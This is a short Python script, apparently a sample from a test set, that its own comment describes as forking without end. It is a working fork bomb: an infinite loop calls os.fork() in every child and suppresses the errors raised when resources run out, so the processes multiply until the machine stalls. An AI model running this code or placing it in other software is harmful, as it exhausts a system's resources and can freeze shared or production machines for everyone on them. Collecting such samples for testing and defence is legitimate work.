# Forks without end, and every child does too.
# tiers: full rooted partial
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
